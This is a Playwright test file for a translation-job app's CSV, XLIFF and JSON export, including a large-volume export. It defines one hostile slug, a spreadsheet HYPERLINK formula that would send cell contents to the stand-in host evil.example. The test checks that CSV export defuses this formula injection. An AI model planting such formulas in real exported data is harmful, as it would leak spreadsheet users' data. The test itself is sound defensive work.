import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { readTable } from '../src/lib/files/in/csv.ts';
import { readFile as readTexts } from '../src/lib/files/texts/read-file.ts';
import { expect, expectAccessible, test } from './fixtures.ts';
import { startGalley } from './servers.ts';

/** What a spreadsheet would run, and what XML would take for its own. */
const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"<b>click</b>")';

/** Chooses a format, and reads what the browser saves. */
async function exported(page: Page, menu: string, format: string) {
  await page.getByRole('button', { name: menu, exact: true }).click();
  const download = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: format }).click();
  const file = await download;
  return { name: file.suggestedFilename(), text: await readFile(await file.path(), 'utf8') };
}

test('the list as filtered, then a selection of it, is exported and read back', async ({
  page,
  sandbox,
  gengo,
}) => {
  await sandbox.reset({ scenario: 'empty', queueMs: 0 });
  const order = (count: number, lc_tgt: string) =>
    gengo.post('translate/jobs', {
      jobs: Array.from({ length: count }, (_, index) => ({
        type: 'text',
        slug: index === 0 ? HOSTILE : `${lc_tgt}.${index}`,
        body_src: `Line ${index},\n“quoted” & [[[kept]]] <i>`,
        lc_src: 'en',
        lc_tgt,
        tier: 'standard',
      })),
    });
  await order(60, 'de');
  await order(3, 'zh-tw');

  await page.goto('/jobs?status=available');
  const csv = await exported(page, 'Export all 63', 'CSV');
  expect(csv.name).toBe('galley-translations-2026-03-02.csv');
  expect(csv.text.startsWith('\uFEFF')).toBe(true);
  const [heading = [], ...rows] = readTable(csv.text);
  const of = (field: string) => rows.map((row) => row[heading.indexOf(field)] ?? '');
  expect(rows).toHaveLength(63);
  expect(new Set(of('job_id')).size).toBe(63);
  expect(of('slug').filter((slug) => slug.includes('HYPERLINK'))).toEqual([
    `'${HOSTILE}`,
    `'${HOSTILE}`,
  ]);
  expect(of('body_src')).toContain('Line 59,\n“quoted” & [[[kept]]] <i>');

  const strip = page.getByRole('region', { name: 'Export' });
  await expect(strip).toContainText('Exported 63 translations');
  await expectAccessible(page);
  await strip.getByRole('button', { name: 'Close' }).click();

  // The newest are those into Chinese.
  const boxes = page.getByRole('table', { name: 'Translations' }).getByRole('checkbox');
  for (const place of [1, 2, 3]) await boxes.nth(place).check();
  const xliff = await exported(page, 'Export 3 selected', 'XLIFF');
  expect(xliff.name).toBe('galley-translations-2026-03-02-en-zh-Hant-TW.xlf');
  const { units, language } = readTexts(Buffer.from(xliff.text), xliff.name);
  expect(language).toBe('en');
  expect(units.map(({ key }) => key).toSorted()).toEqual([HOSTILE, 'zh-tw.1', 'zh-tw.2']);
  expect(units.map(({ source }) => source)).toContain('Line 2,\n“quoted” & [[[kept]]] <i>');

  const json = await exported(page, 'Export 3 selected', 'JSON');
  expect(JSON.parse(json.text)).toHaveLength(3);
});

test('a hundred thousand are read, written and saved whole, while the page stays usable', async ({
  page,
}) => {
  // Two thousand calls.
  test.slow();
  const galley = await startGalley(undefined, { SANDBOX_SCENARIO: 'large', SANDBOX_STATE: 'off' });
  try {
    await page.goto(`${galley.origin}/jobs?after=2000-01-01T00:00Z`);
    const menu = page.getByRole('button', { name: /^Export all \d+,\d+$/ });
    const label = await menu.innerText();
    const saved = exported(page, label, 'JSON');
    const strip = page.getByRole('region', { name: 'Export' });
    await expect(strip).toContainText(/Exporting \d+,\d+ translations/);
    // It goes on behind another page.
    await page.getByRole('link', { name: 'Orders' }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Orders' })).toBeVisible();
    const jobs: { job_id: string }[] = JSON.parse((await saved).text);
    expect(new Set(jobs.map(({ job_id }) => job_id)).size).toBe(Number(label.replace(/\D/g, '')));
  } finally {
    await galley.stop();
  }
});
